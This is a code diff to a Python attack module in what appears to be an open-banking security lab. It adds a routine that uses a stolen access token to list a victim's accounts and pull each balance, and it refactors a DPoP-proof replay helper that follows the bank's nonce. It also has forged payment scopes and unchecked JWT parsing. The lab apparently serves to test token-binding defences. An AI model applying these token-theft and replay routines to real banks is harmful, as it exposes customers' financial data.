@@ -25,6 +25,7 @@ from jwt.algorithms import ECAlgorithm, RSAAlgorithm
 
 from lab import clock, pki
 from lab.bank import ledger
+from lab.protocol.tokens import unverified_claims  # a JWT's payload, read unchecked
 from lab.tpp import dpop as tpp_dpop
 
 from . import insider, net
@@ -32,6 +33,7 @@ from .capture_view import Leaked
 from .context import ATTACKER_SITE_PORT, AttackContext
 from .model import AttackSetupError
 from .premises import token_of
+from .token_support import with_proof
 
 MALLORY = "mallory"
 FORGED_SCOPE = "accounts:read transactions:read payments:write"
@@ -39,16 +41,6 @@ FORGED_LIFETIME = 3600
 
 
 # --- what the captures say --------------------------------------------------------------------
-
-def unverified_claims(token: str) -> dict[str, Any]:
-    """A JWT's payload, read without checking anything (anyone holding it can)."""
-    try:
-        payload = token.split(".")[1]
-        data = json.loads(base64.urlsafe_b64decode(payload + "=" * (-len(payload) % 4)))
-    except (IndexError, ValueError):
-        return {}
-    return data if isinstance(data, dict) else {}
-
 
 def account_of(leaked: Leaked) -> str | None:
     """The account id in a captured /accounts/{id}/... URL."""
@@ -83,6 +75,30 @@ def accounts_url(ctx: AttackContext, account_id: str, tail: str) -> str:
     return ctx.url("bank", f"/accounts/{quote(account_id, safe='')}/{tail}")
 
 
+def balances_with(ctx: AttackContext, get: Callable[[str, str], requests.Response], *,
+                  listing: str, refused: str) -> dict[str, Any]:
+    """GET /accounts with a stolen token, then each account's balances; `get(url, what)`
+    presents the token its way (the attacker's own proof, its own certificate).
+
+    Fails when the list is refused (`refused`) or empty, or when no balance is served.
+    """
+    listed = get(ctx.url("bank", "/accounts"), listing)
+    if listed.status_code != 200:
+        ctx.failed(refused, listed)
+    accounts = listed.json().get("accounts") or []
+    if not accounts:
+        ctx.failed("the stolen token listed no accounts", listed)
+    balances = {}
+    for account in accounts:
+        account_id = account["account_id"]
+        r = get(accounts_url(ctx, account_id, "balances"), f"GET /accounts/{account_id}/balances")
+        if r.status_code == 200:
+            balances[account_id] = r.json()
+    if not balances:
+        ctx.failed("the bank listed the accounts but served no balance", listed)
+    return balances
+
+
 # --- sending ----------------------------------------------------------------------------------
 
 def replay(ctx: AttackContext, leaked: Leaked, *, what: str, method: str | None = None,
@@ -111,16 +127,15 @@ def dpop_send(ctx: AttackContext, signer: tpp_dpop.Signer, method: str, url: str
               **kwargs: Any) -> requests.Response:
     """One resource request with a fresh proof by `signer`; once more with the bank's nonce
     if it asks (RFC 9449 §9: whoever holds the key can follow the nonce)."""
-    def attempt(nonce: str | None, text: str) -> requests.Response:
-        headers = {"Authorization": f"{scheme} {token}",
-                   "DPoP": signer.proof(method, url, access_token=token, nonce=nonce)}
-        return ctx.send(method, url, headers=headers, what=text, http=http, **kwargs)
+    sent: list[int] = []
 
-    response = attempt(None, what)
-    if tpp_dpop.asks_for_nonce(response):
-        response = attempt(response.headers[tpp_dpop.NONCE_HEADER],
-                           what + " (again, with the bank's DPoP nonce)")
-    return response
+    def send(extra: dict[str, str]) -> requests.Response:
+        text = what + " (again, with the bank's DPoP nonce)" if sent else what
+        sent.append(1)
+        return ctx.send(method, url, headers={"Authorization": f"{scheme} {token}", **extra},
+                        what=text, http=http, **kwargs)
+
+    return with_proof(send, signer, method, url, access_token=token)
 
 
 def authorization_scheme(leaked: Leaked) -> str:
